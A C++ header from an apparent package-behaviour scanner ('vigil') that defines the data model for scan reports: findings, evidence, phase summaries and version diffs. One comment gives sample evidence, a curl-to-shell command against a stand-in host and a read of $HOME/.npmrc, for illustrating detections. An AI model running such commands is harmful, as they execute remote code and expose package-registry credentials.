// @brief ScanReport: everything a finished scan shows — the one model behind terminal, JSON, SARIF,
// HTML and PDF output and the GUI's views.
//
// Filled by the scan orchestrator (from its results or from the store for `vigil-cli report
// <scan-id>`); read by every renderer. Plain data: renderers never query the store themselves.
// Events are not part of it — a large scan has millions — but are read one package at a time
// through an EventSource (event_source.h) by whatever shows them.
#pragma once

#include <chrono>
#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "engine/collect/event.h"
#include "engine/core/severity.h"

namespace vigil::engine::report {

/// One event a finding rests on, by its place in the stored stream.
struct EvidenceRef {
    std::string phase;    ///< "install", "import", "api"
    uint64_t seq = 0;     ///< Event::seq in that phase
    std::string summary;  ///< one line: "sh -c curl http://x.example/a | sh", "read $HOME/.npmrc"
};

struct Finding {
    std::string ruleId;       ///< "install-shell-download-exec"
    Severity severity = Severity::Info;
    std::string title;        ///< the one-line reason shown in every list
    std::string description;  ///< the rule's longer explanation
    std::vector<std::string> tags;
    std::vector<std::string> phases;    ///< phases where it matched
    nlohmann::json evidence = nlohmann::json::object();  ///< field -> matched values, exfiltration proofs
    std::vector<EvidenceRef> events;    ///< the events behind it (bounded)
    bool expected = false;    ///< explained as legitimate ("native addon compiler run"): shown, not alarmed
    int scoreContribution = 0;  ///< points of the package's 0..100 score this finding accounts for
};

/// How one phase of one package ran.
struct PhaseSummary {
    std::string phase;
    std::string outcome;      ///< "ok", "failed", "timed-out", "crashed", "skipped"
    int exitCode = 0;
    int signal = 0;
    std::chrono::milliseconds duration{0};
    std::map<std::string, uint64_t> countsByCategory;  ///< event category -> count
    uint64_t drops = 0;       ///< events the tracer lost
};

/// Which files of the package contents one version added, removed or changed against another.
struct FileChanges {
    std::vector<std::string> added, removed, changed;  ///< paths, sorted
    [[nodiscard]] bool empty() const { return added.empty() && removed.empty() && changed.empty(); }
};

/// One line of a version diff as reports and the GUI show it.
struct ChangeLine {
    std::string change;    ///< "added", "removed" or "changed"
    std::string section;   ///< "network.connections"; for a changed line its kind ("outcome", "resource", ...)
    std::string text;      ///< the behaviour's key, or what changed ("install started failing")
    std::string evidence;  ///< "(install; events #12,#15)"; "" when none
    std::vector<EvidenceRef> events;  ///< the events behind it with their summaries, when the store had them
};

/// What a package version does that an earlier analysed version did not (and the reverse): the
/// behaviour diff (analysis::VersionDiff flattened for rendering) and the contents' file diff.
struct VersionChanges {
    std::string fromVersion, toVersion;
    std::string summary;  ///< "3 added, 1 removed, 1 changed; behaviour differs"
    bool sameBehaviour = false;
    std::vector<ChangeLine> lines;     ///< added, then removed, then changed
    std::optional<FileChanges> files;  ///< absent when the store holds no file lists to compare
};

/// Behaviour categories of the heatmap's columns, in display order.
inline constexpr const char* kHeatmapCategories[] = {"install", "process", "network", "filesystem", "env", "code"};

struct PackageReport {
    std::string name;
    std::string version;
    std::string integrity;
    std::string category;     ///< inferred ("string", "http-client", ...)
    int score = 0;            ///< 0..100, higher = riskier
    Severity severity = Severity::Info;  ///< highest non-expected finding's, Info when none
    bool cached = false;      ///< served from the store, not analysed in this scan
    bool analysisFailed = false;
    std::string analysisError;
    std::vector<Finding> findings;
    std::vector<std::vector<std::string>> paths;  ///< dependency paths from the root, "name@version" each
    std::map<std::string, int> heat;   ///< kHeatmapCategories -> 0..100
    std::vector<PhaseSummary> phases;
    std::map<std::string, std::string> installScripts;  ///< "postinstall" -> script text
    nlohmann::json fingerprint = nlohmann::json::object();
    /// Since the previous analysed version in the store (attachVersionChanges); absent without one.
    std::optional<VersionChanges> changes;

    [[nodiscard]] std::string key() const { return name + "@" + version; }
};

/// A dependency edge of the resolved tree, by PackageReport::key().
struct DependencyEdge {
    std::string from;  ///< "" = the project root
    std::string to;
    bool dev = false;
    bool optional = false;
};

/// What changed since the previous scan of the same project.
struct ScanComparison {
    int64_t previousScanId = 0;
    std::vector<std::string> addedPackages, removedPackages;  ///< keys
    std::vector<std::string> newFindings;                      ///< "key: rule id"
    std::vector<std::string> resolvedFindings;
};

struct ScanReport {
    int64_t scanId = 0;
    std::string projectPath;
    std::string projectName;
    std::string lockfile;                        ///< path of the lockfile used, "" when none
    std::chrono::system_clock::time_point startedAt, finishedAt;
    std::string analyzerVersion;
    std::string rulesVersion;                    ///< digest of the loaded rule set
    std::string status = "complete";             ///< "complete", "cancelled", "failed"
    uint64_t totalPackages = 0, analysed = 0, cached = 0, failed = 0;
    std::map<Severity, uint64_t> findingsBySeverity;
    std::vector<PackageReport> packages;         ///< sorted: severity desc, score desc, name
    std::vector<DependencyEdge> edges;
    std::optional<ScanComparison> comparison;
};

}  // namespace vigil::engine::report
